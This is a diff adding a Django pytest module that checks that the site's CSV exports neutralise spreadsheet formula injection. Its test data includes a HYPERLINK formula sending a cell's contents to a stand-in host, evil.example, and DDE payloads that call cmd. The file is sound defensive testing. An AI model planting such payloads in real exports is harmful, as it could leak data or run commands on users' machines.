@@ -1,0 +1,89 @@
+"""CSV exports never hand a spreadsheet a formula: cells starting with =, +, -, @, a tab or a
+carriage return are prefixed with an apostrophe (pfcc.csvsafe), in every CSV export."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+
+from camp.models import Grade
+from hackathon.models import Direction, Track
+from pfcc.csvsafe import safe_cell
+
+from .test_permission_matrix import all_routes
+from .world import build_world
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
+
+# Every CSV the site serves: (route, kwargs from the world, role that may download it).
+CSV_EXPORTS = {
+    "hackathon:board_csv": (lambda w: {"number": w.edition.number}, "anonymous"),
+    "hackathon:progress_csv": (lambda w: {"number": w.edition.number}, "anonymous"),
+    "hackathon:results_csv": (lambda w: {"number": w.published.number}, "anonymous"),
+    "camp:grades_csv": (lambda w: {"cohort": w.cohort.slug}, "staff"),
+}
+
+
+@pytest.mark.parametrize("value", [*FORMULAS, "=", "@", "-", "+"])
+def test_safe_cell_prefixes_formulas(value):
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["", "plain", "1.5", "'=already", " =space", "中文", None, 3])
+def test_safe_cell_leaves_other_values(value):
+    assert safe_cell(value) == ("" if value is None else str(value))
+
+
+def test_every_csv_route_is_checked_here():
+    csv_routes = {key for key, pattern, _ns in all_routes() if key and ".csv" in pattern}
+    assert csv_routes == set(CSV_EXPORTS), "a new CSV export: add it to CSV_EXPORTS"
+
+
+@pytest.fixture
+def hostile_world(settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path / "media"
+    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
+    world = build_world()
+    formulas = iter(FORMULAS * 3)
+    Track.objects.filter(edition=world.edition).update(name=next(formulas))
+    Direction.objects.filter(track__edition=world.edition).update(name=next(formulas))
+    for task in world.tasks:
+        task.title = next(formulas)
+        task.save()
+    world.claim.team_name = next(formulas)
+    world.claim.save()
+    for role in ("contributor", "mentee", "other_mentee", "mentor"):
+        person = world.persons[role]
+        person.name = next(formulas)
+        person.save()
+    Grade.objects.create(mentorship=world.mentorship, level=Grade.Level.EXCELLENT)
+    return world
+
+
+@pytest.mark.parametrize("route", list(CSV_EXPORTS))
+def test_csv_exports_neutralise_formulas(hostile_world, client, route):
+    kwargs, role = CSV_EXPORTS[route]
+    if role != "anonymous":
+        client.force_login(hostile_world.users[role])
+    response = client.get(reverse(route, kwargs=kwargs(hostile_world)))
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells
+    dangerous = [cell for cell in cells if cell.startswith(DANGEROUS_START)]
+    assert not dangerous, dangerous
+    # The hostile values are there, shown as text.
+    assert any(cell.startswith("'") and cell[1:] in FORMULAS for cell in cells), cells
